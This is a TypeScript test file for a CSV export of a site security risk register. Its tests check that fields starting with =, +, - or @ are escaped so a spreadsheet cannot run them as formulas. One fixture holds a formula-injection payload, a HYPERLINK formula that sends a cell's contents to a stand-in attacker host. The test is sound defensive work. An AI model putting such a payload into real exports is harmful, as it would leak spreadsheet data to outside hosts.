import { Assessment, LOCALES, type ProposedMeasure, type RegisterRow } from '@pactesur/contracts';
import { describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { registerCsv } from './assessment-csv.ts';
import { ASSESSMENT_REPORT_TEXT } from './assessment-report-text.ts';

const ORG = '11111111-1111-4111-8111-111111111111';

const measure = (id: string, title: string, extra: Partial<ProposedMeasure> = {}): ProposedMeasure => ({
  id,
  title,
  kind: 'built',
  costEur: 10_000,
  owner: '',
  dueDate: null,
  status: 'proposed',
  changes: [],
  ...extra,
});

/** An assessment whose register (already computed, highest risk first) and proposed measures are given; the rest is empty. */
function assessmentWith(register: RegisterRow[], measures: ProposedMeasure[]): Assessment {
  const input: z.input<typeof Assessment> = {
    id: ORG,
    ownerOrgId: ORG,
    ownerOrgName: 'Comune di Torino',
    siteId: ORG,
    siteName: 'Piazza Castello',
    title: 'Piazza Castello',
    version: 1,
    parentId: null,
    status: 'complete',
    step: 'results',
    headline: {
      scored: register.length,
      highestRisk: null,
      highestBand: null,
      totalRisk: 0,
      bands: { low: 0, medium: 0, high: 0, 'very-high': 0 },
      measures: measures.length,
      measuresCostEur: 0,
    },
    createdAt: '2025-01-01T00:00:00.000Z',
    updatedAt: '2025-01-01T00:00:00.000Z',
    access: 'owner',
    revision: 1,
    createdByName: 'Giulia Bianchi',
    content: { measures },
    indicators: [],
    suggestions: [],
    register,
    rankedMeasures: [],
    carverTotal: null,
    martyn: { capacity: null, tier: 'none', missing: [] },
    comments: [],
    photos: [],
  };
  return Assessment.parse(input);
}

const hyperlink = measure('link', '=HYPERLINK("http://evil.example/?"&A1,"Click")', {
  owner: '@owner',
  dueDate: '2025-06-30',
});
const barriers = measure('barriers', 'Temporary barriers, "heavy" type', {
  owner: 'Polizia locale',
  dueDate: '2025-05-01',
});
const patrols = measure('patrols', '+39 patrols at night');

const rows: RegisterRow[] = [
  {
    threat: 'vehicle-ramming',
    when: 'event',
    likelihood: 5,
    impact: 5,
    risk: 25,
    band: 'very-high',
    existingMeasures: ['Planters on the north side', 'Police car at the corner'],
    proposedMeasures: ['barriers', 'link'],
    residualRisk: 10,
    residualBand: 'high',
    owner: 'Polizia locale',
    dueDate: '2025-05-01',
  },
  {
    threat: 'drone',
    when: 'normal-day',
    likelihood: 2,
    impact: 3,
    risk: 6,
    band: 'medium',
    existingMeasures: [],
    proposedMeasures: ['patrols', 'gone'],
    residualRisk: 3,
    residualBand: 'low',
    owner: '',
    dueDate: null,
  },
  {
    threat: 'arson',
    when: 'market-day',
    likelihood: 1,
    impact: 2,
    risk: 2,
    band: 'low',
    existingMeasures: ['-1 fire exits'],
    proposedMeasures: [],
    residualRisk: 2,
    residualBand: 'low',
    owner: '',
    dueDate: null,
  },
];

describe('registerCsv', () => {
  const csv = registerCsv(assessmentWith(rows, [barriers, hyperlink, patrols]), 'en');
  const lines = csv.split('\r\n');

  it('writes a header and one row per register row, in the register’s order, each line ended by CRLF', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(lines.at(-1)).toBe('');
    expect(lines).toHaveLength(rows.length + 2);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(lines[0]).toBe(
      'Threat,When,L,I,R,Band,Existing measures,Proposed measures,Residual R,Residual band,Owner,Due date',
    );
    expect(lines.slice(1, -1).map((l) => l.split(',')[0])).toEqual([
      'Vehicle ramming',
      'Drone attack',
      'Arson or incendiary attack',
    ]);
  });

  it('joins the existing measures and the titles of the proposed ones with "; ", and keeps an id no measure has', () => {
    expect(lines[1]).toBe(
      'Vehicle ramming,Event,5,5,25,very high,Planters on the north side; Police car at the corner,' +
        `"Temporary barriers, ""heavy"" type; =HYPERLINK(""http://evil.example/?""&A1,""Click"")",` +
        '10,high,Polizia locale,2025-05-01',
    );
    expect(lines[2]).toBe("Drone attack,Normal day,2,3,6,medium,,'+39 patrols at night; gone,3,low,,");
  });

  it('never lets a spreadsheet run a field as a formula', () => {
    const own = registerCsv(
      assessmentWith(
        [
          {
            ...(rows[0] as RegisterRow),
            proposedMeasures: ['link'],
            owner: '@owner',
            existingMeasures: ['=1+1'],
          },
        ],
        [hyperlink],
      ),
      'en',
    );
    const fields = own.split('\r\n')[1] ?? '';
    expect(fields).toContain(`'=HYPERLINK(`);
    expect(fields).toContain(`,'=1+1,`);
    expect(fields).toContain(`,'@owner,`);
    expect(lines[3]).toContain(",'-1 fire exits,");
    // No field of any row starts with a character a spreadsheet reads as a formula.
    for (const line of [...lines.slice(1, -1), fields])
      for (const field of line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g) ?? [])
        expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
  });

  it('speaks every language: header, threats, occasions and bands', () => {
    for (const locale of LOCALES) {
      const text = ASSESSMENT_REPORT_TEXT[locale];
      const out = registerCsv(assessmentWith(rows, [barriers, hyperlink, patrols]), locale).split('\r\n');
      const c = text.registerColumns;
      expect(out[0], locale).toBe(
        [
          c.threat,
          c.when,
          c.likelihood,
          c.impact,
          c.risk,
          c.band,
          c.existingMeasures,
          c.proposedMeasures,
          c.residualRisk,
          c.residualBand,
          c.owner,
          c.dueDate,
        ].join(','),
      );
      expect(
        out[1]?.startsWith(
          `${text.threats['vehicle-ramming']},${text.occasions.event},5,5,25,${text.bands['very-high']},`,
        ),
        locale,
      ).toBe(true);
      expect(
        out[3]?.startsWith(`${text.threats.arson},${text.occasions['market-day']},1,2,2,${text.bands.low},`),
        locale,
      ).toBe(true);
    }
    const it = registerCsv(assessmentWith(rows, [barriers, hyperlink, patrols]), 'it').split('\r\n');
    expect(it[0]).toBe(
      'Minaccia,Quando,P,I,R,Livello,Misure esistenti,Misure proposte,R residuo,Livello residuo,Responsabile,Scadenza',
    );
    expect(it[2]).toBe(
      "Attacco con drone,Giorno ordinario,2,3,6,medio,,'+39 patrols at night; gone,3,basso,,",
    );
  });

  it('writes the header alone for an empty register', () => {
    expect(registerCsv(assessmentWith([], []), 'fr')).toBe(
      'Menace,Quand,V,I,R,Niveau,Mesures existantes,Mesures proposées,R résiduel,Niveau résiduel,Responsable,Échéance\r\n',
    );
  });
});
